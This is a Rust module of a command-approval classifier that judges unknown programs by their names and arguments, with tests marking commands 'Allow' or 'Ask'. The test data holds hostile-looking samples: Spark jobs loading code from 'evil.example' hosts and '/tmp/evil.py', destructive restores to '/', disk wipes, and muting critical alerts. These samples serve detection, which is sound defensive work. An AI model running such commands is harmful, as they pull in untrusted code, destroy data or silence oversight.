//! Programs that no family knows: judged by what their name and their arguments say.
//!
//! A plainly harmless purpose is no reason to ask; a name, subcommand or flag that says it destroys, publishes or resets
//! is one. File names, patterns, quoted texts and test names say nothing.

pub mod carried;
mod known;
#[cfg(test)]
mod word_tests;

#[cfg(test)]
pub(super) use known::{BACKUPS, DESCRIPTIONS};
use signoff_model::{EffectKind, Reversible, Risk, Scope, Unread};

use super::{
    lexicon::{self, Says},
    own, tool,
};
use crate::{
    facts::FileText,
    path_effects::rules,
    rule::{Priority, Rule},
    shell::{
        Call, Locus, Shell, Written,
        options::{Options, Syntax},
    },
    value::{Arg, Feed, Origin, Value},
    words::is_listed,
};

rules! {
    SAYS_DESTROYS = Rule::new("says-destroys", EffectKind::Delete, Risk::High, "says that it destroys or resets something: {}", "其名称或参数表明会销毁或重置内容：{}")
        .priority(Priority::P2)
        .examples(&["nuke-it now", "./scripts/reset-db.sh", "mytool delete everything", "mytool --purge", "bin/wipe-disk"], &["mytool grep delete", "./test-delete.sh", "mytool show delete_user.rs", "mytool delete x --dry-run"]);
    SAYS_PUBLISHES = Rule::new("says-publishes", EffectKind::Publish, Risk::High, "says that it deploys, publishes or sends something: {}", "其名称或参数表明会部署、发布或发送内容：{}")
        .reversible(Reversible::No).priority(Priority::P2)
        .examples(&["./deploy.sh", "mytool publish", "scripts/release.sh 1.2.0"], &["./build.sh", "./deploy.sh --dry-run", "mytool status"]);
    SAYS_CHANGES = Rule::new("says-changes", EffectKind::System, Risk::Medium, "says that it changes a running system or data: {}", "其名称或参数表明会更改运行中的系统或数据：{}")
        .priority(Priority::P2)
        .examples(&["mytool migrate", "./restore.sh", "Set-Service x"], &["mytool migrate --plan", "Get-Service x"]);
    UNKNOWN_ELSEWHERE = Rule::new("unknown-elsewhere", EffectKind::NetworkWrite, Risk::Medium, "runs a program that is not known on another machine: {}", "在另一台机器上运行未知程序：{}")
        .priority(Priority::P2)
        .examples(&["ssh web1 frobnicate"], &["frobnicate", "ssh web1 uptime"]);
}

/// Judges a program that no family knows: by its name and its arguments.
pub fn judge(shell: &mut Shell<'_>, call: &Call) -> Feed {
    let out = call.output();
    if call.name.starts_with("signoff") {
        return out;
    }
    if let Some(described) = tool::find(&known::BACKUPS, &call.name) {
        return backup(shell, call, described);
    }
    if call.name == "spark-submit"
        && let Some(feed) = runs_here(shell, call)
    {
        return feed;
    }
    if let Some(described) = known::find(&call.name) {
        return tool::judge(shell, call, described);
    }
    doubt_lists(shell, call);
    // What a browser has put there came from elsewhere, and nobody has read it.
    if call.program.value.prefix().contains('/') && is_downloaded(shell, &call.program.value) {
        shell.opaque(Unread::Script(call.program.shown().into_owned()), call.program.span);
    }
    if let Some(feed) = init_script(shell, call) {
        return feed;
    }
    if matches!(call.name.as_str(), "mono" | "wine" | "wine64")
        && let Some(file) = call.args.iter().find(|arg| !arg.is_option())
    {
        judge_inner(shell, call, file);
    }
    // Its orders are given by a plus, any number of them.
    let builds = |arg: &Arg| matches!(arg.known(), Some("+run_app_build" | "+workshop_build_item" | "+app_build"));
    if matches!(call.name.as_str(), "steamcmd" | "steamcmd.sh")
        && let Some(at) = call.args.iter().position(builds)
    {
        tool::speak(shell, call, &SAYS_PUBLISHES, at);
        return out;
    }
    if matches!(call.name.as_str(), "mbpoll" | "modpoll") && writes_registers(call) {
        tool::speak(shell, call, &SAYS_CHANGES, 0);
        return out;
    }
    if !call.asks_for_help_first() {
        carried::judge(shell, call);
        carried::judge_code(shell, call);
        carried::evaluate(shell, call);
    }
    judge_words(shell, call);
    if matches!(shell.locus(), Locus::Remote(_))
        && !tool::only_looks(call)
        && lexicon::name(&call.name) != Some(Says::Looks)
    {
        tool::speak(shell, call, &UNKNOWN_ELSEWHERE, 0);
    }
    out
}

/// Whether values stand behind the address of a controller: they are written to it, where it would be read otherwise.
fn writes_registers(call: &Call) -> bool {
    const VALUED: &str = "-m -a -r -c -t -l -o -p -b -d -s -P -u -R -F";
    tool::operands(call, VALUED).len() > 1
}

/// Whether a path lies in the directory of downloads.
fn is_downloaded(shell: &Shell<'_>, path: &Value) -> bool {
    let place = shell.place(path);
    let home = shell.whereabouts().home.as_str();
    place.path.strip_prefix(home).is_some_and(|rest| rest.starts_with("/Downloads/"))
        && shell.written(&place.path).is_none()
        && !matches!(shell.facts().text(&place.path), FileText::Text(_))
}

/// A backup that is brought back into the temporary directory replaces nothing of anybody's.
fn backup(shell: &mut Shell<'_>, call: &Call, described: &tool::Tool) -> Feed {
    let restores = tool::operands(call, described.values).first().and_then(|at| call.arg(*at));
    let into_scratch = match restores {
        // This one unpacks where it stands.
        Some("extract") => shell.cwd().is_some_and(|cwd| is_scratch(shell, &Value::text(cwd))),
        Some("restore") => restored_to(call, described).is_some_and(|target| is_scratch(shell, &target.value)),
        _ => false,
    };
    if into_scratch { call.output() } else { tool::judge(shell, call, described) }
}

fn is_scratch(shell: &Shell<'_>, path: &Value) -> bool {
    shell.place(path).scope == Scope::Temp
}

/// Where a backup is brought back to: what an option names, or else the last operand.
fn restored_to(call: &Call, described: &tool::Tool) -> Option<Arg> {
    // Of several the last one counts.
    let named = call.args.iter().rposition(|arg| {
        let name = arg.value.prefix().split('=').next().unwrap_or_default();
        matches!(name, "--target" | "-t")
    });
    match named {
        Some(at) => tool::attached_or_next(call, at),
        None => {
            let operands = tool::operands(call, described.values);
            operands.get(2..)?.last().and_then(|at| call.args.get(*at)).cloned()
        }
    }
}

/// Runs a job that could go to a cluster and is told to run in this process: its script runs like any other. Where it
/// goes when nobody says so stands in a file that is not read here.
fn runs_here(shell: &mut Shell<'_>, call: &Call) -> Option<Feed> {
    const SYNTAX: Syntax = Syntax {
        short_values: "",
        long_values: &[
            "master",
            "deploy-mode",
            "class",
            "name",
            "jars",
            "packages",
            "exclude-packages",
            "repositories",
            "py-files",
            "files",
            "archives",
            "conf",
            "properties-file",
            "driver-memory",
            "driver-java-options",
            "driver-library-path",
            "driver-class-path",
            "driver-cores",
            "executor-memory",
            "executor-cores",
            "total-executor-cores",
            "num-executors",
            "proxy-user",
            "principal",
            "keytab",
            "queue",
        ],
        long_flags: &[],
        stops_at_operand: true,
        single_dash_long: false,
    };
    let options = Options::read(&call.args, &SYNTAX);
    let master = options.value(&["master"])?.value.prefix();
    if master != "local" && !master.starts_with("local[") {
        return None;
    }
    let script = options.operands.first()?;
    // Code that is loaded beside the script, or instead of one, is nobody's if it lies outside the project.
    const LOADS: &[&str] =
        &["jars", "py-files", "archives", "driver-class-path", "driver-library-path", "properties-file"];
    let is_python = script.value.prefix().ends_with(".py");
    let mut loaded: Vec<Arg> = Vec::new();
    for given in options.values(LOADS).chain((!is_python).then_some(*script)) {
        match given.known() {
            Some(list) => loaded.extend(list.split([',']).map(|path| Arg::text(path, given.span))),
            None => loaded.push(given.clone()),
        }
    }
    for path in loaded.iter().filter(|path| !path.value.is_empty()) {
        let is_own = !path.shown().contains("://") && shell.place(&path.value).scope == Scope::Project;
        if !is_own {
            shell.opaque(Unread::Script(path.shown().into_owned()), path.span);
        }
    }
    // Packages of the projects around it are what everybody loads.
    const USUAL: &[&str] =
        &["org.apache.", "io.delta", "com.amazonaws", "com.databricks", "org.postgresql", "com.mysql"];
    for list in options.values(&["packages", "repositories"]) {
        let is_usual = |package: &str| USUAL.iter().any(|group| package.starts_with(group));
        if !list.known().is_some_and(|list| list.split(',').all(is_usual)) {
            shell.opaque(Unread::Script(list.shown().into_owned()), list.span);
        }
    }
    if !is_python {
        return Some(call.output());
    }
    let mut argv = vec![Arg::text("python3", call.program.span)];
    argv.extend(call.args.iter().skip(options.first_operand).cloned());
    Some(shell.run_with(call.variables.clone(), &argv, call.stdin.clone(), call.span))
}

/// Judges a call by its words alone.
pub fn judge_words(shell: &mut Shell<'_>, call: &Call) {
    // Whoever says that this is no rehearsal means to change something.
    let in_earnest = call
        .args
        .iter()
        .position(|arg| arg.is("--no-dry-run") || arg.is("--no-dryrun") || arg.is("--for-real"))
        .map(|at| (Says::Changes, at));
    if in_earnest.is_none() && (tool::only_looks(call) || is_rehearsal(call)) {
        return;
    }
    let said = said(call).filter(|(says, _)| *says != Says::Looks).or(in_earnest);
    if let Some((says, at)) = said {
        let rule = match says {
            Says::Looks => return,
            Says::Destroys => &SAYS_DESTROYS,
            Says::Publishes => &SAYS_PUBLISHES,
            Says::Changes => &SAYS_CHANGES,
        };
        tool::speak(shell, call, rule, at);
    }
}

/// A program that nobody knows may change the lists that it is given: what they lead to is then not what was found.
fn doubt_lists(shell: &mut Shell<'_>, call: &Call) {
    for arg in call.args.iter().filter(|arg| arg.known().is_some()) {
        let path = shell.place(&arg.value).path.clone();
        let is_list = |written: &Written| {
            written.content().is_some_and(|feed| {
                feed.text.is_none() && feed.origins.iter().any(|origin| matches!(origin, Origin::Listing { .. }))
            })
        };
        if shell.written(&path).is_some_and(is_list) {
            shell.complain_into(&path);
        }
    }
}

/// Whether a variable tells a script to say only what it would do.
fn is_rehearsal(call: &Call) -> bool {
    call.variables.iter().any(|(name, value)| {
        matches!(name.as_str(), "DRY_RUN" | "DRYRUN" | "dry_run" | "NOOP" | "NO_OP" | "SIMULATE" | "PRETEND")
            && matches!(value.known(), Some("1" | "true" | "yes" | "on" | "TRUE"))
    })
}

/// What a call says, and the position of the argument that says it.
fn said(call: &Call) -> Option<(Says, usize)> {
    if let Some(says) = command_let(&call.name) {
        return Some((says, 0));
    }
    match lexicon::name(&call.name) {
        Some(Says::Looks) => return None,
        Some(says) => return Some((says, 0)),
        None => {}
    }
    by_subcommand(call)
        .or_else(|| flags(call).next())
        .or_else(|| forced_import(call))
        .or_else(|| main_network(call))
        .or_else(|| in_production(call))
}

/// Verbs that are harmless enough by themselves, and not where others work.
const WORKS: &str = "toggle enable disable launch execute sync approve reject cancel close suspend resume scale pause rotate set \
    unset update import load seed add create assign merge drain cordon restart stop activate deactivate switch unlock lock \
    rebalance reindex backfill edit replace rename move scale-down scale-up shift route invalidate open rerun retry on off";

/// `disable checkout --env production`: a change of what others use.
fn in_production(call: &Call) -> Option<(Says, usize)> {
    let at = call.args.iter().take(4).position(|arg| arg.known().is_some_and(|text| is_listed(WORKS, text)));
    let forced = || call.args.iter().position(|arg| matches!(arg.known(), Some("--force" | "--yes" | "-y")));
    let at = at.or_else(forced)?;
    let looks = call.args.first().and_then(|arg| arg.known()).and_then(lexicon::subcommand) == Some(Says::Looks);
    let builds = call.args.iter().take(2).any(|arg| {
        matches!(arg.known(), Some("build" | "serve" | "start" | "dev" | "test" | "install" | "compile" | "bundle"))
    });
    let named = call.args.iter().enumerate().any(|(position, arg)| {
        let text = arg.value.prefix();
        match text.split_once('=') {
            Some((name, value)) => name.starts_with('-') && names_production(value),
            None => position > 0 && names_production(text),
        }
    });
    (named && !looks && !builds).then_some((Says::Changes, at))
}

/// Whether a word names what others use: `production`, `etl/prod`, `prod-eu`. A file of that name does not.
fn names_production(text: &str) -> bool {
    let parts = text.split(['-', '_', '/', ':']);
    !text.starts_with('-')
        && !text.contains(['.', ' '])
        && text.matches('/').count() < 2
        && parts.into_iter().any(|part| matches!(part, "production" | "prod" | "prd"))
}

/// Judges the arguments that a build hands to the program it runs, written as one text: `--args='purge users'`.
pub fn judge_text(shell: &mut Shell<'_>, call: &Call, text: &str, arg: &Arg) {
    let args = text.split_whitespace().map(|word| Arg::text(word, arg.span)).collect();
    judge_words(shell, &Call { args, ..call.clone() });
}

/// Judges a program that another one runs, such as a jar or an assembly, by its own name and words.
pub fn judge_inner(shell: &mut Shell<'_>, call: &Call, file: &Arg) {
    let Some(inner) = inner(call, file) else { return };
    match known::find(&inner.name) {
        Some(described) => {
            tool::judge(shell, &inner, described);
        }
        None => judge_words(shell, &inner),
    }
}

/// Judges the words for the program of the project that is built and run in one step: what it changes is its own.
pub fn judge_built(shell: &mut Shell<'_>, call: &Call, dashes: &Arg) {
    let Some(inner) = inner(call, dashes) else { return };
    if !matches!(said(&inner), Some((Says::Changes, _))) {
        judge_words(shell, &inner);
    }
}

/// Judges the options that a program or a task of the project is given. Its name and its verb were judged by whoever runs
/// it, and what it changes is its own: an option counts only if it says that something is lost or leaves the machine.
pub fn judge_flags(shell: &mut Shell<'_>, call: &Call, name: &Arg, args: &[Arg]) {
    let shown = name.shown();
    let task = shown.rsplit('/').next().unwrap_or_default();
    let given =
        Call { name: task.into(), program: name.clone(), args: args.to_vec(), stdin: Feed::none(), ..call.clone() };
    let looks = lexicon::name(task) == Some(Says::Looks)
        || matches!(by_subcommand(&given), Some((Says::Looks, _)))
        || tool::only_looks(&given)
        || is_rehearsal(call);
    if looks {
        return;
    }
    let said = flags(&given).find_map(|(says, at)| match says {
        Says::Destroys => Some((&SAYS_DESTROYS, at)),
        Says::Publishes => Some((&SAYS_PUBLISHES, at)),
        Says::Looks | Says::Changes => None,
    });
    if let Some((rule, at)) = said {
        tool::speak(shell, &given, rule, at);
    }
}

/// What each option says that says something, and its position.
fn flags(call: &Call) -> impl Iterator<Item = (Says, usize)> {
    call.args.iter().enumerate().filter_map(|(at, arg)| {
        let text = arg.known().filter(|text| text.starts_with('-'))?;
        lexicon::flag(text).map(|says| (says, at))
    })
}

/// The call of a program that another one runs: its file, and what stands behind it.
fn inner(call: &Call, file: &Arg) -> Option<Call> {
    let at = call.args.iter().position(|arg| arg == file)?;
    let path = file.shown();
    let base = path.rsplit('/').next().unwrap_or_default();
    let name = base.rsplit_once('.').map_or(base, |(stem, _)| stem);
    Some(Call {
        name: name.into(),
        program: file.clone(),
        args: call.args.iter().skip(at + 1).cloned().collect(),
        variables: call.variables.clone(),
        stdin: Feed::none(),
        span: call.span,
    })
}

/// `import x --force`: what is there is replaced.
fn forced_import(call: &Call) -> Option<(Says, usize)> {
    let brings = call
        .args
        .iter()
        .take(3)
        .position(|arg| matches!(arg.known(), Some("import" | "load" | "transfer" | "seed" | "populate")))?;
    let forced = call.args.iter().any(|arg| {
        let text = arg.value.prefix();
        matches!(text, "--force" | "--overwrite" | "--replace" | "--clean" | "--drop")
            || text.starts_with("--overwrite-")
    });
    forced.then_some((Says::Destroys, brings))
}

/// `--network mainnet`: what is done there is done with real money, and for good.
fn main_network(call: &Call) -> Option<(Says, usize)> {
    let tests = call.args.iter().take(2).any(|arg| {
        matches!(arg.known(), Some("test" | "compile" | "verify" | "node" | "console" | "coverage" | "build" | "check"))
    });
    let at = call.args.iter().position(|arg| {
        let name = arg.value.prefix().trim_start_matches('-').split('=').next().unwrap_or_default();
        arg.is_option() && matches!(name, "network" | "cluster" | "chain" | "provider.cluster" | "url" | "net")
    })?;
    let value = tool::attached_or_next(call, at)?;
    (!tests && value.shown().starts_with("mainnet")).then_some((Says::Publishes, at))
}

/// Words behind which something new is named.
const NAMED: &str = "component page class model service hook function module route controller view test new generate g make \
    create add scaffold story slice action command event job mutation query resolver";

/// What the subcommands say: at most three plain words at the beginning, up to the first that is no plain word. Behind a
/// first word the name of one thing may stand between them, as in `user bob@example.com delete`.
fn by_subcommand(call: &Call) -> Option<(Says, usize)> {
    const DEEPEST: usize = 3;
    let mut seen = 0;
    let mut valued = false;
    for (at, arg) in call.args.iter().enumerate() {
        if seen == DEEPEST {
            return None;
        }
        if seen > 0 && names_one_thing(arg) {
            continue;
        }
        // Behind an option in front, what cannot be a subcommand is its value: `-s https://…`, `--host "$HOST"`.
        let is_value = seen == 0
            && at
                .checked_sub(1)
                .and_then(|before| call.arg(before))
                .is_some_and(|before| before.starts_with('-') && !before.contains('='));
        let Some(text) = arg.known() else {
            if is_value {
                valued = true;
                continue;
            }
            return None;
        };
        if text.starts_with('-') {
            // What follows an option may be its value, so that only a first word behind options counts.
            if seen > 0 {
                return None;
            }
            continue;
        }
        if !is_plain_word(text) {
            if is_value {
                valued = true;
                continue;
            }
            return None;
        }
        // Among options that have values, another word behind one is a value, too.
        if is_value && valued {
            continue;
        }
        // Further on, a word in camel case is the name of something.
        let deepest = if text.starts_with(|letter: char| letter.is_ascii_lowercase()) { 1 } else { 0 };
        let names =
            at.checked_sub(1).and_then(|before| call.arg(before)).is_some_and(|before| is_listed(NAMED, before));
        if seen <= deepest
            && !names
            && let Some(says) = lexicon::camel(text)
        {
            return (says != Says::Looks).then_some((says, at));
        }
        let before = at.checked_sub(1).filter(|_| seen > 0).and_then(|before| call.arg(before));
        if let Some(says) = before.and_then(|thing| lexicon::phrase(thing, text)) {
            return (!runs_here_alone(call, at)).then_some((says, at));
        }
        match lexicon::subcommand(text) {
            Some(Says::Looks) => return None,
            // Nouns as well as verbs: only as the first word are they an order.
            Some(_) if seen > 0 && matches!(text, "release" | "post" | "mail" | "empty" | "transfer") => seen += 1,
            Some(says) => {
                // Behind an option without `=` the word may be a value, such as `--name delete`.
                let behind_option = at
                    .checked_sub(1)
                    .and_then(|before| call.arg(before))
                    .is_some_and(|before| before.starts_with('-') && !before.contains('='));
                return (!behind_option || seen == 0 && at + 1 < call.args.len()).then_some((says, at));
            }
            None => seen += 1,
        }
    }
    None
}

/// `job run`, `workflow run tests`: what is started by no name, or is a test, is no one else's, unless another word says
/// that it is.
fn runs_here_alone(call: &Call, at: usize) -> bool {
    let (thing, verb) = (at.checked_sub(1).and_then(|before| call.arg(before)), call.arg(at));
    let unnamed = || call.args.len() == at + 1 && matches!(thing, Some("job" | "workflow"));
    let is_test = |next: &str| matches!(next, "test" | "tests" | "lint" | "check" | "unit" | "e2e");
    verb == Some("run") && (unnamed() || call.arg(at + 1).is_some_and(is_test)) && !is_for_others(call)
}

/// Whether the name of a program or one of its words says that others depend on what it does, or may say so.
fn is_for_others(call: &Call) -> bool {
    const WORDS: &[&str] = &["prod", "live", "deploy", "release", "publish", "staging"];
    let says = |text: &str| {
        let text = text.to_ascii_lowercase();
        text.split(|letter: char| !letter.is_ascii_alphanumeric())
            .any(|part| WORDS.iter().any(|word| part.starts_with(word)))
    };
    says(&call.name) || call.args.iter().any(|arg| arg.known().is_none_or(says))
}

/// Whether a word is the name or number of one thing that a following verb is about: an address of a person, a number.
fn names_one_thing(arg: &Arg) -> bool {
    arg.known().is_some_and(|text| {
        let address = text.split_once('@').is_some_and(|(who, host)| {
            let plain = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '-' | '_' | '+');
            !who.is_empty() && host.contains('.') && who.chars().chain(host.chars()).all(plain)
        });
        address || text.len() > 1 && text.bytes().all(|byte| byte.is_ascii_digit())
    })
}

/// Whether a word could be a subcommand: letters and separators, no path, no file, no text.
fn is_plain_word(text: &str) -> bool {
    text.len() <= 40
        && text.starts_with(|letter: char| letter.is_ascii_alphabetic())
        && text.chars().all(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '-' | '_' | ':'))
}

/// What a PowerShell command says by its verb: `Remove-Item`, `Get-ChildItem`.
fn command_let(name: &str) -> Option<Says> {
    let (verb, noun) = name.split_once('-')?;
    let capital = |text: &str| text.starts_with(|letter: char| letter.is_ascii_uppercase());
    if !capital(verb) || !capital(noun) || !verb.chars().all(|letter| letter.is_ascii_alphabetic()) {
        return None;
    }
    Some(match verb {
        "Remove" | "Clear" | "Uninstall" | "Stop" | "Reset" | "Revoke" | "Unregister" | "Dismount" | "Initialize"
        | "Disable" | "Suspend"
            if noun != "Host" && noun != "Variable" && noun != "History" =>
        {
            Says::Destroys
        }
        "Format" if noun == "Volume" || noun == "Disk" => Says::Destroys,
        "Publish" | "Send" | "Deploy" | "Push" | "Submit" if noun != "Location" => Says::Publishes,
        "Set" | "Restart" | "Start" | "Enable" | "Register" | "Grant" | "Restore" | "Move" | "Rename" | "Mount"
        | "Repair" | "Invoke"
            if !matches!(
                noun,
                "Location"
                    | "Variable"
                    | "Alias"
                    | "StrictMode"
                    | "PSDebug"
                    | "Sleep"
                    | "WebRequest"
                    | "RestMethod"
                    | "Transcript"
                    | "Binary"
                    | "Pester"
                    | "ScriptAnalyzer"
                    | "NodeVersion"
                    | "NodeInstallLocation"
                    | "Job"
            ) =>
        {
            Says::Changes
        }
        _ => Says::Looks,
    })
}

/// `/etc/init.d/nginx restart`: a service under another name.
fn init_script(shell: &mut Shell<'_>, call: &Call) -> Option<Feed> {
    let path = call.program.known()?;
    if !path.starts_with("/etc/init.d/") && !path.starts_with("/etc/rc.d/") {
        return None;
    }
    if !call.args.is_empty() && !call.has("status") {
        let rule = if own::names_signoff(path) { &own::OWN_PROCESS } else { &super::system::CHANGE_SERVICE };
        tool::speak(shell, call, rule, 0);
    }
    Some(call.output())
}

#[cfg(test)]
mod tests {
    use signoff_model::Verdict;

    use crate::testing::check;

    #[test]
    fn a_plainly_harmless_purpose_is_allowed() {
        check(
            Verdict::Allow,
            &[
                "mytool",
                "mytool build",
                "mytool show delete",
                "mytool grep delete src",
                "./build.sh",
                "./scripts/test.sh",
                "scripts/lint.sh --fix",
                "bin/dev",
                "mytool src/delete_user.rs",
                "inxi --audio",
                "jello -l",
                "peco --query delete",
                "mytool --name delete",
                "./deploy.sh --dry-run",
                "deploy-prod --help",
                "mytool destroy --plan",
                "Get-NodeVersions",
                "Test-Connection x",
                "./test-deploy.sh",
                "mytool new projectName",
                "arithmetic -r 7",
                "mytool 'delete all the things'",
                "grub-script-check x",
                "mytool import x",
                "dropbearkey -t rsa",
                "./gradlew-like check",
                "mytool --remove-comments a.js",
            ],
        );
    }

    #[test]
    fn words_that_destroy_deploy_or_reset_ask() {
        check(
            Verdict::Ask,
            &[
                "nuke-it",
                "./deploy.sh",
                "scripts/reset-db.sh",
                "mytool delete x",
                "mytool db:drop",
                "mytool server delete web1",
                "mytool --delete-all",
                "wipe-disk now",
                "mytool publish",
                "./release.sh 1.2",
                "mytool deploy --env prod",
                "gam user bob@example.com delete messages query x doit",
                "mytool order 4711 cancel-and-delete",
                "cleanup.sh",
                "mytool -v destroy x",
                "Remove-Item x",
                "Restart-Computer",
                "mytool migrate",
                "./uninstall.sh",
                "mytool --purge",
                "bin/purge_users",
            ],
        );
    }

    #[test]
    fn where_a_backup_comes_back_to_decides() {
        check(
            Verdict::Allow,
            &[
                "restic -r /mnt/r restore latest --target /tmp/r --include /srv/app",
                "restic restore latest --target=/tmp/r",
                "kopia restore k123 /tmp/r",
                "duplicity restore s3://b /tmp/r",
                "cd /tmp/r && borg extract /mnt/r::x",
                "borg extract --dry-run /mnt/r::x",
                "restic forget --keep-daily 7 --dry-run",
                "borg prune -n --keep-daily 7 /mnt/r",
                "restic snapshots",
            ],
        );
        check(
            Verdict::Ask,
            &[
                "restic restore latest --target /",
                "restic restore latest --target /tmp/r --target /",
                "restic restore latest --target ~/",
                "kopia restore k123 /",
                "borg extract /mnt/r::x",
                "restic forget --keep-daily 7 --prune",
                "borg delete /mnt/r::x",
                "restic restore latest",
            ],
        );
    }

    #[test]
    fn a_job_that_runs_here_is_submitted_to_nobody() {
        check(
            Verdict::Allow,
            &[
                "spark-submit --master 'local[4]' jobs/dedupe.py --output /tmp/o",
                "spark-submit --master=local job.py",
                "spark-submit --master yarn --master local job.py",
            ],
        );
        check(
            Verdict::Ask,
            &[
                "spark-submit --master yarn --deploy-mode cluster job.py",
                "spark-submit --master k8s://https://x job.py",
                "spark-submit --deploy-mode cluster job.py",
                "spark-submit job.py",
                "spark-submit --master \"$M\" job.py",
                "spark-submit --master local --master spark://prod:7077 job.py",
                "spark-submit --master local --name x /tmp/job.py",
            ],
        );
    }

    #[test]
    fn silencing_alarms_asks() {
        check(
            Verdict::Ask,
            &[
                "amtool silence add severity=critical -d 24h -c 'noise'",
                "amtool --alertmanager.url http://a:9093 silence expire 1",
                "dog monitor mute_all",
                "pd incident resolve -i X",
                "mimirtool rules load a.yml",
            ],
        );
        check(
            Verdict::Allow,
            &[
                "amtool silence query",
                "amtool alert query",
                "dog example.com",
                "dog monitor show 1",
                "pd incident list",
                "mimirtool rules list",
            ],
        );
    }

    #[test]
    fn a_job_that_runs_here_loads_only_what_is_the_projects_own() {
        check(
            Verdict::Ask,
            &[
                "spark-submit --master local --py-files /tmp/evil.py job.py",
                "spark-submit --master local /tmp/evil.jar",
                "spark-submit --master local --packages evil:x:1 job.py",
                "spark-submit --master 'local[2]' --jars lib/a.jar,https://evil.example/b.jar job.py",
                "spark-submit --master local --repositories http://evil.example job.py",
            ],
        );
        check(
            Verdict::Allow,
            &[
                "spark-submit --master local --py-files lib.zip job.py",
                "spark-submit --master local --class app.Main target/app.jar",
                "spark-submit --master local --packages org.apache.hadoop:hadoop-aws:3.3.4 job.py",
            ],
        );
    }
}
